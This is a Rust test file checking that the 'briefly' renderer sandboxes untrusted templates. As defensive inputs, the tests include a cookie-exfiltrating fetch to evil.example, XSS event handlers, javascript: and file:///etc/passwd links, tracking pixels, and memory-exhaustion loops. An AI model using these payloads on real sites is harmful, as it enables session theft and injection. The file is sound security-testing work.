//! Templates (`templates:` in a shared project folder) are untrusted: they cannot read the
//! environment or the clock, hang the build, or abort the process. A runaway template ends the
//! build with exit status 1 and one line naming the template, and writes nothing.
//!
//! Every runaway case runs the `briefly` binary, whose rendering happens in a sandboxed child
//! process (`briefly::render::sandbox`); tests that need the library in-process say so.

use crate::common::*;
use std::path::Path;

/// One error line naming `template` and containing `msg`, and nothing written.
fn assert_one_clear_error(f: &Failed, template: &str, msg: &str) {
    assert_eq!(f.stderr.lines().count(), 1, "{}", f.stderr);
    assert!(f.stderr.starts_with("error: "), "{}", f.stderr);
    assert!(f.stderr.contains(template) && f.stderr.contains(msg), "{}", f.stderr);
    assert!(f.written.is_empty(), "output written: {:?}", f.written.keys());
}

#[test]
fn templates_cannot_read_the_environment() {
    let secret = "s3cr3t-7f1c9e2a-do-not-print";
    let cases = [
        ("brief.md", "md", "{{ get_env(name=\"BRIEFLY_TEST_SECRET\") }}"),
        ("brief.md", "md", "{{ get_env(name=\"BRIEFLY_TEST_SECRET\", default=\"none\") }}"),
        ("brief.html", "html", "<p>{{ get_env(name=\"BRIEFLY_TEST_SECRET\") }}</p>"),
        ("brief.typ", "pdf", "#\"{{ get_env(name=\"BRIEFLY_TEST_SECRET\") }}\""),
    ];
    // The Typst template is rendered only by a build with the PDF engine.
    for (name, format, template) in cases.into_iter().filter(|c| cfg!(feature = "pdf") || c.1 != "pdf") {
        let f = build_failing(&[(name, template)], format, &[("BRIEFLY_TEST_SECRET", secret)]);
        assert_one_clear_error(&f, name, "get_env is not available in briefly templates");
        assert!(!f.stdout.contains(secret) && !f.stderr.contains(secret), "{template}: secret printed");
    }
    // The archive page is a template too.
    let f = build_failing(
        &[("index.html", "{{ get_env(name=\"BRIEFLY_TEST_SECRET\") }}")],
        "html",
        &[("BRIEFLY_TEST_SECRET", secret)],
    );
    assert!(f.stderr.contains("index.html") && f.stderr.contains("get_env is not available"), "{}", f.stderr);
    assert!(!f.stderr.contains(secret) && !f.stdout.contains(secret));
    assert!(!f.written.values().any(|b| String::from_utf8_lossy(b).contains(secret)), "secret written");
    assert!(!f.written.contains_key("index.html"), "{:?}", f.written.keys());
}

#[test]
fn templates_cannot_read_the_clock_or_chance() {
    for (template, msg) in [
        ("{{ now() }}", "now is not available in briefly templates"),
        ("{{ now(timestamp=true) }}", "now is not available in briefly templates"),
        ("{{ get_random(end=10) }}", "get_random is not available in briefly templates"),
    ] {
        let f = build_failing(&[("brief.md", template)], "md", &[]);
        assert_one_clear_error(&f, "brief.md", msg);
    }
}

#[cfg(feature = "pdf")]
#[test]
fn a_typst_loop_that_never_ends_meets_the_deadline() {
    // Ten billion iterations (typst stops a `while` after 10,000, not nested `for`s).
    let template = "#for i in range(100000) { for j in range(100000) { } }\n";
    let f = build_failing(&[("brief.typ", template)], "md,pdf", &[("BRIEFLY_RENDER_TIMEOUT_MS", "1500")]);
    assert_one_clear_error(&f, "brief.typ", "rendering did not finish within 1.5 s");
}

#[test]
fn tera_string_doubling_runs_out_of_memory_cleanly() {
    let template = "{% set_global s = \"x\" %}{% for i in range(end=64) %}{% set_global s = s ~ s %}{% endfor %}{{ s | length }}";
    let f = build_failing(&[("brief.md", template)], "md,json", &[("BRIEFLY_RENDER_MEMORY_MB", "512")]);
    assert_one_clear_error(&f, "brief.md", "rendering ran out of memory (limit 512 MiB)");
}

#[cfg(feature = "pdf")]
#[test]
fn typst_string_doubling_runs_out_of_memory_cleanly() {
    let template = "#let s = \"x\"\n#for i in range(64) { s = s + s }\n#s.len()\n";
    let f = build_failing(&[("brief.typ", template)], "md,pdf", &[("BRIEFLY_RENDER_MEMORY_MB", "512")]);
    assert_one_clear_error(&f, "brief.typ", "rendering ran out of memory (limit 512 MiB)");
}

#[cfg(feature = "pdf")]
#[test]
fn a_huge_typst_range_runs_out_of_memory_cleanly() {
    // An array of ten billion integers.
    let template = "#for i in range(10000000000) { }\n";
    let f = build_failing(&[("brief.typ", template)], "pdf", &[("BRIEFLY_RENDER_MEMORY_MB", "512")]);
    assert_one_clear_error(&f, "brief.typ", "rendering ran out of memory (limit 512 MiB)");
}

/// Builds `config` over `input` with the library in this process (no sandbox:
/// `briefly::render::sandbox` is only switched on by the binary) into `out`, with the settings
/// the binary resolves for `--config CONFIG --input INPUT --formats FORMATS --out OUT`.
fn build_in_process(config: &Path, input: &Path, formats: &[briefly::output::Format], out: &Path) {
    let settings = briefly::Settings::new(
        briefly::config::BriefConfig::from_file(config).unwrap(),
        input.to_path_buf(),
        out.to_path_buf(),
        formats.to_vec(),
        config.parent().map(Path::to_path_buf),
    );
    briefly::build(&settings).unwrap();
}

#[test]
fn the_sandbox_renders_the_same_bytes_as_the_library() {
    let fixture = root("tests/fixtures/minimal");
    let (config, input) = (fixture.join("brief.yaml"), fixture.join("articles"));
    let formats = if cfg!(feature = "pdf") { "md,html,pdf,json" } else { "md,html,json" };
    let args =
        ["--config", config.to_str().unwrap(), "--input", input.to_str().unwrap(), "--formats", formats];
    let t = tempfile::tempdir().unwrap();
    let (a, b) = (t.path().join("binary"), t.path().join("library"));
    briefly().args(["build", "-q"]).args(args).arg("--out").arg(&a).assert().success();
    use briefly::output::Format;
    let all = [Format::Md, Format::Html, Format::Pdf, Format::Json];
    let formats: Vec<Format> =
        all.into_iter().filter(|f| cfg!(feature = "pdf") || *f != Format::Pdf).collect();
    build_in_process(&config, &input, &formats, &b);
    let (fa, fb) = (files(&a), files(&b));
    assert_eq!(fa.len(), if cfg!(feature = "pdf") { 6 } else { 5 }, "{:?}", fa.keys());
    assert_eq!(fa.keys().collect::<Vec<_>>(), fb.keys().collect::<Vec<_>>());
    for (name, bytes) in &fa {
        assert!(fb[name] == *bytes, "{name} differs between the sandbox and the library");
    }
}

#[test]
fn the_render_subcommand_is_not_offered() {
    let help = briefly().arg("--help").assert().success().get_output().stdout.clone();
    assert!(!String::from_utf8_lossy(&help).contains("__render"));
    for shell in ["bash", "zsh", "fish"] {
        let out = briefly().args(["completions", shell]).assert().success().get_output().stdout.clone();
        assert!(!String::from_utf8_lossy(&out).contains("__render"), "{shell}");
    }
}

/// Builds the minimal fixture with `templates` as the user template folder, expecting success;
/// every file written, keyed by path under the output folder.
fn build_with(
    templates: &[(&str, &str)],
    formats: &str,
    env: &[(&str, &str)],
) -> std::collections::BTreeMap<String, Vec<u8>> {
    let t = tempfile::tempdir().unwrap();
    let dir = t.path().join("templates");
    std::fs::create_dir(&dir).unwrap();
    for (name, text) in templates {
        std::fs::write(dir.join(name), text).unwrap();
    }
    let fixture = root("tests/fixtures/minimal");
    let mut cmd = briefly();
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.args(["build", "-q", "--formats", formats, "--config"])
        .arg(fixture.join("brief.yaml"))
        .arg("--input")
        .arg(fixture.join("articles"))
        .arg("--templates")
        .arg(&dir)
        .arg("--out")
        .arg(t.path().join("out"))
        .timeout(std::time::Duration::from_secs(120))
        .assert()
        .success();
    files(&t.path().join("out"))
}

/// The policy briefly puts first in every page's `<head>`.
const CSP_META: &str = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'\">";

/// The one brief file of `files` named `name` (in the brief's folder).
fn brief_file(files: &std::collections::BTreeMap<String, Vec<u8>>, name: &str) -> String {
    let (_, bytes) = files.iter().find(|(k, _)| k.ends_with(&format!("/{name}"))).expect(name);
    String::from_utf8(bytes.clone()).unwrap()
}

#[test]
fn the_renderer_adds_the_policy_a_template_leaves_out() {
    let page = "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>{{ title }}</title>\n</head>\n<body><p>{{ title }}</p></body>\n</html>\n";
    let bare = "<p>{{ title }}</p>";
    let index = "<!doctype html><html><head><title>Briefs</title></head><body>{% for b in briefs %}<a href=\"{{ b.href }}\">{{ b.title }}</a>{% endfor %}</body></html>";
    let files = build_with(&[("brief.html", page), ("index.html", index)], "html", &[]);
    let html = brief_file(&files, "brief.html");
    assert!(
        html.starts_with(&format!(
            "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n{CSP_META}\n<title>"
        )),
        "{html}"
    );
    let idx = String::from_utf8(files["index.html"].clone()).unwrap();
    assert!(idx.starts_with(&format!("<!doctype html><html><head>{CSP_META}<title>")), "{idx}");
    // A template without any head gets one, with the policy in it.
    let files = build_with(&[("brief.html", bare)], "html", &[]);
    assert!(brief_file(&files, "brief.html").starts_with(&format!("{CSP_META}<p>")));
}

#[test]
fn planted_html_templates_make_no_live_content() {
    let page = |body: &str| {
        format!(
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>{{{{ title }}}}</title></head><body>{body}</body></html>"
        )
    };
    let cases = [
        ("<script>fetch('https://evil.example/?'+document.cookie)</script>", "<script>"),
        (
            "<img src=\"https://tracker.example/p.gif?brief={{ title }}\" alt=\"\">",
            "the remote resource `https://tracker.example/p.gif",
        ),
        ("<p onmouseover=\"alert(1)\">{{ title }}</p>", "the event handler `onmouseover` on <p>"),
        ("<a href=\"javascript:alert(1)\">x</a>", "a `javascript:` address"),
        ("<a href=\"file:///etc/passwd\">x</a>", "a `file:` address"),
        ("<a href=\"data:text/html,x\">x</a>", "a `data:` address"),
        (
            "<style>@import url(https://evil.example/s.css);</style>",
            "the remote resource `https://evil.example/s.css`",
        ),
        ("<link rel=\"stylesheet\" href=\"https://evil.example/s.css\">", "the remote resource"),
        ("<p style=\"background:url('//evil.example/p.gif')\">x</p>", "the remote resource"),
        ("<iframe src=\"https://evil.example/\"></iframe>", "<iframe>"),
        (
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<meta http-equiv=\"refresh\">",
        ),
        ("<base href=\"https://evil.example/\">", "<base>"),
    ];
    for (body, want) in cases {
        let f = build_failing(&[("brief.html", &page(body))], "md,html", &[]);
        assert_one_clear_error(&f, "brief.html", want);
    }
    // The archive page is checked the same way.
    let f = build_failing(&[("index.html", &page("<script>alert(1)</script>"))], "html", &[]);
    assert!(f.stderr.contains("index.html") && f.stderr.contains("<script>"), "{}", f.stderr);
    assert!(!f.written.contains_key("index.html"), "{:?}", f.written.keys());
    // A partial is checked as part of the page that includes it.
    let f = build_failing(
        &[
            ("brief.html", &page("{% include \"part.html\" %}")),
            ("part.html", "<img src=x onerror=alert(1)>"),
        ],
        "html",
        &[],
    );
    assert_one_clear_error(&f, "brief.html", "the event handler `onerror` on <img>");
}

#[test]
fn remote_resources_need_the_person_typing_to_allow_them() {
    let page = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"https://cdn.example/s.css\"></head><body><img src=\"https://cdn.example/logo.png\" alt=\"\"></body></html>";
    let f = build_failing(&[("brief.html", page)], "html", &[]);
    assert_one_clear_error(&f, "brief.html", "BRIEFLY_ALLOW_REMOTE_RESOURCES=1");
    let files = build_with(&[("brief.html", page)], "html", &[("BRIEFLY_ALLOW_REMOTE_RESOURCES", "1")]);
    let html = brief_file(&files, "brief.html");
    assert!(html.contains("content=\"default-src 'none'; img-src https:; style-src 'unsafe-inline' https:; font-src https:; base-uri 'none'; form-action 'none'\""), "{html}");
    // Still never plain http, other schemes, or code.
    for bad in [
        "<img src=\"http://cdn.example/logo.png\">",
        "<img src=\"data:image/gif;base64,R0lGOD\">",
        "<script></script>",
    ] {
        let f = build_failing(
            &[("brief.html", &page.replace("<body>", &format!("<body>{bad}")))],
            "html",
            &[("BRIEFLY_ALLOW_REMOTE_RESOURCES", "1")],
        );
        assert!(f.stderr.contains("brief.html"), "{bad}: {}", f.stderr);
    }
}

#[test]
fn planted_markdown_templates_load_no_remote_images() {
    for (template, want) in [
        (
            "# {{ title }}\n\n![](https://tracker.example/p.gif?user=1)\n",
            "the remote resource `https://tracker.example/p.gif?user=1`",
        ),
        ("# {{ title }}\n\n<img src=\"https://tracker.example/p.gif\">\n", "the remote resource"),
        ("[click](javascript:alert(1))\n", "a `javascript:` address"),
    ] {
        let f = build_failing(&[("brief.md", template)], "md", &[]);
        assert_one_clear_error(&f, "brief.md", want);
    }
}

#[cfg(feature = "pdf")]
#[test]
fn planted_typst_templates_link_only_to_the_web_and_mail() {
    for (template, want) in [
        ("#link(\"javascript:alert(1)\")[x]\n", "the PDF would link to `javascript:alert(1)`"),
        ("#link(\"file:///etc/passwd\")[x]\n", "the PDF would link to `file:///etc/passwd`"),
        ("#box[#link(\"data:text/html,x\")[x]]\n", "the PDF would link to `data:text/html,x`"),
    ] {
        let f = build_failing(&[("brief.typ", template)], "md,pdf", &[]);
        assert_one_clear_error(&f, "brief.typ", want);
    }
    // Nor does the Typst world read files.
    let f = build_failing(&[("brief.typ", "#read(\"/etc/passwd\")\n")], "pdf", &[]);
    assert!(f.stderr.contains("not found") && !f.stderr.contains("root:"), "{}", f.stderr);
    // Web and mail links pass.
    let files = build_with(
        &[("brief.typ", "#link(\"https://example.org\")[a] #link(\"mailto:a@example.org\")[b]\n")],
        "pdf",
        &[],
    );
    assert!(files.keys().any(|k| k.ends_with("brief.pdf")));
}
